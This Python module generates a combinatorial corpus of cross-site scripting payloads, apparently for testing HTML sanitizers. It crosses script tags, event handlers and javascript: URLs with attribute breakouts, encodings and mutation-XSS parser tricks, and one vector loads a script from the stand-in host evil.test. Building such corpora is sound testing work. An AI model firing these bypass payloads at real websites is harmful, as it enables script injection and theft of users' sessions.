"""A corpus of hostile texts, made and not fetched: every way to run a script × every way to smuggle it in.

Each payload calls `alert(<its number>)`, loads a script from evil.test, or leads there by a `javascript:` address.
"""

from collections.abc import Callable

RUN = "alert({n})"
VECTORS = [
    "<script>{run}</script>",
    "<script src=https://evil.test/{n}.js></script>",
    "<img src=x onerror={run}>",
    "<img src='x' onerror='{run}'/>",
    "<svg onload={run}></svg>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s></svg>",
    "<svg><set onbegin={run} attributeName=x></svg>",
    "<svg><a xlink:href=javascript:{run}><text y=9>x</text></a></svg>",
    "<math><a xlink:href=javascript:{run}>x</a></math>",
    "<details open ontoggle={run}>x</details>",
    "<body onload={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<video><source onerror={run}></video>",
    "<video src=x onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<iframe srcdoc='&lt;script&gt;parent.{run}&lt;/script&gt;'></iframe>",
    "<iframe src=javascript:parent.{run}></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<a href=javascript:{run}>x</a>",
    "<a href=' javascript:{run}'>x</a>",
    "<a href='java&#9;script:{run}'>x</a>",
    "<form action=javascript:{run}><button>x</button></form>",
    "<form><button formaction=javascript:{run}>x</button></form>",
    "<b onmouseover={run}>x</b>",
    "<p onclick={run}>x</p>",
    "<marquee onstart={run}>x</marquee>",
    "<style>@keyframes k{{}}</style><i style=animation-name:k onanimationstart={run}>x</i>",
    "<link rel=stylesheet href=x onerror={run}>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "javascript:{run}",
]
CARRIERS: list[Callable[[str], str]] = [
    lambda v: v,
    lambda v: f'">{v}',
    lambda v: f"'>{v}",
    lambda v: f'x" {v.replace("<", " ").replace(">", " ")} x="',
    lambda v: f"</title>{v}",
    lambda v: f"</textarea>{v}",
    lambda v: f"</script>{v}",
    lambda v: f"</style>{v}",
    lambda v: f"--!>{v}",
    lambda v: f"]]>{v}",
    lambda v: f"<!--><{v[1:]}" if v.startswith("<") else f"<!-->{v}",
    lambda v: f'<noscript><p title="</noscript>{v}">',
    lambda v: f"<svg><p><style><!--</style>{v}",
    lambda v: f"<math><mtext><table><mglyph><style><!--</style>{v}",
    lambda v: f"<svg></p><style><a id='</style>{v}'>",
    lambda v: f"<svg><desc>{v}</desc></svg>",
    lambda v: f"<svg><foreignObject>{v}</foreignObject></svg>",
    lambda v: f"<select><option>{v}",
    lambda v: f"<table><td>{v}",
    lambda v: v.replace("<", "&lt;").replace(">", "&gt;"),
    lambda v: v.replace("<", "&amp;lt;"),
    lambda v: v.replace("<", "&#60;").replace(">", "&#x3e;"),
    lambda v: v.replace("<", "%3C").replace(">", "%3E"),
    lambda v: v.replace("<", "＜").replace(">", "＞"),
    lambda v: v.replace("<", "<\t", 1),
    lambda v: v.replace(" ", "\n"),
    lambda v: v.replace(" ", "/"),
    lambda v: v.swapcase().replace("ALERT", "alert"),
    lambda v: f"- {v}",
    lambda v: f"1. {v}",
    lambda v: f"https://x.example/{v}",
    lambda v: f'https://x.example/?q="{v}',
    lambda v: f"[x](javascript:alert)({v})",
    lambda v: f"{{{{ x|safe }}}}{{% autoescape off %}}{v}",
]


def payloads() -> list[str]:
    """All of them, numbered; no two alike."""
    found = []
    for carry in CARRIERS:
        for vector in VECTORS:
            number = len(found) + 1
            found.append(carry(vector.format(run=RUN.format(n=number), n=number)))
    return found
